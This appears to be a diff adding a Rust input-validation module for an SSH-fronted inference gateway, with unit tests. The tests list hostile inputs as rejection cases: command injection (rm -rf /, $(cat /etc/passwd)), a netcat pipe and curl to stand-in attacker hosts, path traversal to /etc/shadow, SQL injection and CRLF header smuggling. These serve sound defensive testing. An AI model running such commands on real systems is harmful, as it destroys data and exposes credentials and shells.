@@ -1,0 +1,373 @@
+//! Injection-safe parsing of the Cloud Interface Script's inputs (§5.5,
+//! §6.1.2).
+//!
+//! The script receives the client's requested command string (OpenSSH's
+//! `SSH_ORIGINAL_COMMAND`) plus a JSON envelope on stdin. The paper calls
+//! out exactly this surface: *"we bring extra attention to the
+//! implementation of the input parsing ... to protect against injection
+//! attacks, restricting any request to follow a preset of determined paths,
+//! and avoiding any potentially dangerous commands such as eval"*.
+//!
+//! Accordingly the parser is a strict allowlist: three verbs, tight
+//! grammars for every field, and no string ever reaches anything
+//! shell-like (there is no shell in this binary at all — defense in depth
+//! on top of the registry-based exec).
+
+use std::collections::HashMap;
+
+use crate::util::json::{self, Json};
+
+/// Hard cap on the envelope body (matches the HTTP layer).
+pub const MAX_ENVELOPE_BYTES: usize = 8 * 1024 * 1024;
+
+/// Parsed, validated operation.
+#[derive(Debug, Clone, PartialEq)]
+pub enum Op {
+    /// Keep-alive ping: triggers a scheduler run, answers "pong".
+    Ping,
+    /// Routing-table / health status (optionally for one service).
+    Probe { service: Option<String> },
+    /// Forward an inference-related HTTP request to a service instance.
+    Request(ForwardRequest),
+}
+
+/// A validated request to forward.
+#[derive(Debug, Clone, PartialEq)]
+pub struct ForwardRequest {
+    pub service: String,
+    pub method: String,
+    pub path: String,
+    pub headers: HashMap<String, String>,
+    pub body: String,
+    pub stream: bool,
+}
+
+/// Why an input was rejected. Every rejection is logged and audited in the
+/// security tests.
+#[derive(Debug, Clone, PartialEq, thiserror::Error)]
+pub enum Violation {
+    #[error("unknown verb: {0:?}")]
+    UnknownVerb(String),
+    #[error("malformed command: {0}")]
+    MalformedCommand(String),
+    #[error("illegal characters in {0}")]
+    IllegalChars(&'static str),
+    #[error("field too long: {0}")]
+    TooLong(&'static str),
+    #[error("bad envelope: {0}")]
+    BadEnvelope(String),
+    #[error("method not allowed: {0:?}")]
+    MethodNotAllowed(String),
+    #[error("path not allowed: {0:?}")]
+    PathNotAllowed(String),
+    #[error("envelope too large")]
+    EnvelopeTooLarge,
+}
+
+/// Service names: lowercase DNS-label style, bounded length.
+pub fn valid_service_name(s: &str) -> bool {
+    !s.is_empty()
+        && s.len() <= 64
+        && s.chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-' || c == '.')
+        && !s.starts_with('-')
+}
+
+/// Paths: must start with `/`, only URL-safe chars, no `..` traversal.
+fn valid_path(p: &str) -> bool {
+    p.starts_with('/')
+        && p.len() <= 256
+        && p.chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '_' | '-' | '.'))
+        && !p.contains("..")
+}
+
+/// Header names/values: conservative charset; no CR/LF (header smuggling).
+fn valid_header(name: &str, value: &str) -> bool {
+    !name.is_empty()
+        && name.len() <= 64
+        && name
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+        && value.len() <= 1024
+        && value
+            .chars()
+            .all(|c| !c.is_control())
+}
+
+/// Allowed forwarding targets — the "preset of determined paths".
+const ALLOWED_METHODS: &[&str] = &["GET", "POST"];
+const ALLOWED_PATH_PREFIXES: &[&str] = &["/v1/", "/health", "/metrics"];
+
+/// Parse + validate the requested command string.
+///
+/// Grammar (tokens separated by single spaces):
+/// ```text
+///   saia ping
+///   saia probe [<service>]
+///   saia request
+/// ```
+pub fn parse_command(original: &str) -> Result<CommandVerb, Violation> {
+    if original.len() > 256 {
+        return Err(Violation::TooLong("command"));
+    }
+    // Reject control characters and shell metacharacters outright, before
+    // any token processing — nothing legitimate contains them.
+    if original.chars().any(|c| {
+        c.is_control()
+            || matches!(
+                c,
+                ';' | '|' | '&' | '$' | '`' | '(' | ')' | '<' | '>' | '\\' | '\'' | '"' | '*'
+                    | '?' | '{' | '}' | '~' | '#' | '!'
+            )
+    }) {
+        return Err(Violation::IllegalChars("command"));
+    }
+    let tokens: Vec<&str> = original.split(' ').filter(|t| !t.is_empty()).collect();
+    match tokens.as_slice() {
+        ["saia", "ping"] => Ok(CommandVerb::Ping),
+        ["saia", "probe"] => Ok(CommandVerb::Probe { service: None }),
+        ["saia", "probe", svc] => {
+            if valid_service_name(svc) {
+                Ok(CommandVerb::Probe {
+                    service: Some(svc.to_string()),
+                })
+            } else {
+                Err(Violation::IllegalChars("service"))
+            }
+        }
+        ["saia", "request"] => Ok(CommandVerb::Request),
+        ["saia", other, ..] => Err(Violation::UnknownVerb(other.to_string())),
+        _ => Err(Violation::MalformedCommand(original.to_string())),
+    }
+}
+
+/// The command verb before the stdin envelope is considered.
+#[derive(Debug, Clone, PartialEq)]
+pub enum CommandVerb {
+    Ping,
+    Probe { service: Option<String> },
+    Request,
+}
+
+/// Parse + validate the full operation (command + stdin envelope).
+pub fn parse_op(original_command: &str, stdin: &[u8]) -> Result<Op, Violation> {
+    match parse_command(original_command)? {
+        CommandVerb::Ping => Ok(Op::Ping),
+        CommandVerb::Probe { service } => Ok(Op::Probe { service }),
+        CommandVerb::Request => {
+            if stdin.len() > MAX_ENVELOPE_BYTES {
+                return Err(Violation::EnvelopeTooLarge);
+            }
+            let text = std::str::from_utf8(stdin)
+                .map_err(|_| Violation::BadEnvelope("not utf-8".into()))?;
+            let v = json::parse(text).map_err(|e| Violation::BadEnvelope(e.to_string()))?;
+            Ok(Op::Request(validate_envelope(&v)?))
+        }
+    }
+}
+
+fn validate_envelope(v: &Json) -> Result<ForwardRequest, Violation> {
+    let service = v
+        .str_field("service")
+        .ok_or_else(|| Violation::BadEnvelope("missing service".into()))?;
+    if !valid_service_name(service) {
+        return Err(Violation::IllegalChars("service"));
+    }
+    let method = v
+        .str_field("method")
+        .ok_or_else(|| Violation::BadEnvelope("missing method".into()))?
+        .to_uppercase();
+    if !ALLOWED_METHODS.contains(&method.as_str()) {
+        return Err(Violation::MethodNotAllowed(method));
+    }
+    let path = v
+        .str_field("path")
+        .ok_or_else(|| Violation::BadEnvelope("missing path".into()))?;
+    if !valid_path(path) || !ALLOWED_PATH_PREFIXES.iter().any(|p| path.starts_with(p)) {
+        return Err(Violation::PathNotAllowed(path.to_string()));
+    }
+    let mut headers = HashMap::new();
+    if let Some(Json::Obj(entries)) = v.get("headers") {
+        if entries.len() > 32 {
+            return Err(Violation::TooLong("headers"));
+        }
+        for (name, value) in entries {
+            let value = value
+                .as_str()
+                .ok_or_else(|| Violation::BadEnvelope("header value must be string".into()))?;
+            if !valid_header(name, value) {
+                return Err(Violation::IllegalChars("header"));
+            }
+            headers.insert(name.to_lowercase(), value.to_string());
+        }
+    }
+    let body = v.str_field("body").unwrap_or("").to_string();
+    let stream = v.bool_field("stream").unwrap_or(false);
+    Ok(ForwardRequest {
+        service: service.to_string(),
+        method,
+        path: path.to_string(),
+        headers,
+        body,
+        stream,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn accepts_legitimate_commands() {
+        assert_eq!(parse_command("saia ping").unwrap(), CommandVerb::Ping);
+        assert_eq!(
+            parse_command("saia probe").unwrap(),
+            CommandVerb::Probe { service: None }
+        );
+        assert_eq!(
+            parse_command("saia probe llama3-70b").unwrap(),
+            CommandVerb::Probe {
+                service: Some("llama3-70b".into())
+            }
+        );
+        assert_eq!(parse_command("saia request").unwrap(), CommandVerb::Request);
+    }
+
+    #[test]
+    fn rejects_shell_injection_in_command() {
+        for attack in [
+            "saia ping; rm -rf /",
+            "saia probe $(cat /etc/passwd)",
+            "saia probe `id`",
+            "saia request | nc attacker 4444",
+            "saia ping && curl evil.sh",
+            "saia probe ../../../etc/shadow",
+            "saia probe llama'; DROP TABLE jobs; --",
+            "saia request\nrm -rf /",
+            "saia probe a\0b",
+        ] {
+            assert!(
+                parse_command(attack).is_err(),
+                "attack accepted: {attack:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn rejects_unknown_verbs_and_garbage() {
+        assert!(matches!(
+            parse_command("saia eval x"),
+            Err(Violation::UnknownVerb(_))
+        ));
+        assert!(parse_command("bash -i").is_err());
+        assert!(parse_command("").is_err());
+        assert!(parse_command(&"a".repeat(500)).is_err());
+    }
+
+    fn envelope(service: &str, method: &str, path: &str) -> String {
+        Json::obj()
+            .set("service", service)
+            .set("method", method)
+            .set("path", path)
+            .set("body", "{}")
+            .to_string()
+    }
+
+    #[test]
+    fn accepts_valid_request_envelope() {
+        let op = parse_op("saia request", envelope("llama3-70b", "POST", "/v1/chat/completions").as_bytes())
+            .unwrap();
+        match op {
+            Op::Request(req) => {
+                assert_eq!(req.service, "llama3-70b");
+                assert_eq!(req.method, "POST");
+                assert_eq!(req.path, "/v1/chat/completions");
+            }
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn rejects_bad_methods_and_paths() {
+        for (m, p) in [
+            ("DELETE", "/v1/chat/completions"),
+            ("PUT", "/v1/models"),
+            ("POST", "/etc/passwd"),
+            ("POST", "/v1/../../etc/passwd"),
+            ("POST", "v1/chat"),
+            ("GET", "/admin"),
+            ("POST", "/v1/chat;id"),
+            ("POST", "/v1/chat completions"),
+        ] {
+            let env = envelope("llama", m, p);
+            assert!(
+                parse_op("saia request", env.as_bytes()).is_err(),
+                "accepted {m} {p}"
+            );
+        }
+    }
+
+    #[test]
+    fn rejects_header_smuggling() {
+        let env = Json::obj()
+            .set("service", "llama")
+            .set("method", "POST")
+            .set("path", "/v1/chat/completions")
+            .set(
+                "headers",
+                Json::obj().set("x-evil", "a\r\nx-injected: 1"),
+            )
+            .to_string();
+        assert!(matches!(
+            parse_op("saia request", env.as_bytes()),
+            Err(Violation::IllegalChars("header"))
+        ));
+    }
+
+    #[test]
+    fn rejects_bad_service_names() {
+        for svc in ["", "UPPER", "a b", "-leading", "a/../b", "$(id)", "x".repeat(100).as_str()] {
+            assert!(!valid_service_name(svc), "accepted {svc:?}");
+        }
+        for svc in ["llama3-70b", "qwen2-72b", "mixtral-8x7b", "meta.llama"] {
+            assert!(valid_service_name(svc), "rejected {svc:?}");
+        }
+    }
+
+    #[test]
+    fn rejects_non_json_and_oversized_envelopes() {
+        assert!(parse_op("saia request", b"not json").is_err());
+        assert!(parse_op("saia request", &[0xFF, 0xFE]).is_err());
+        let huge = vec![b'a'; MAX_ENVELOPE_BYTES + 1];
+        assert!(matches!(
+            parse_op("saia request", &huge),
+            Err(Violation::EnvelopeTooLarge)
+        ));
+    }
+
+    #[test]
+    fn ping_and_probe_ignore_stdin() {
+        assert_eq!(parse_op("saia ping", b"garbage").unwrap(), Op::Ping);
+        assert_eq!(
+            parse_op("saia probe", b"\xff\xff").unwrap(),
+            Op::Probe { service: None }
+        );
+    }
+
+    #[test]
+    fn property_nasty_strings_never_parse_as_request() {
+        use crate::util::propcheck;
+        propcheck::quick("nasty command strings rejected or safe", |rng| {
+            let s = propcheck::nasty_string(rng, 20);
+            match parse_command(&s) {
+                // If something parses it must be one of the three verbs with
+                // fully validated fields — spot-check the service grammar.
+                Ok(CommandVerb::Probe { service: Some(svc) }) => {
+                    assert!(valid_service_name(&svc));
+                }
+                Ok(_) | Err(_) => {}
+            }
+        });
+    }
+}
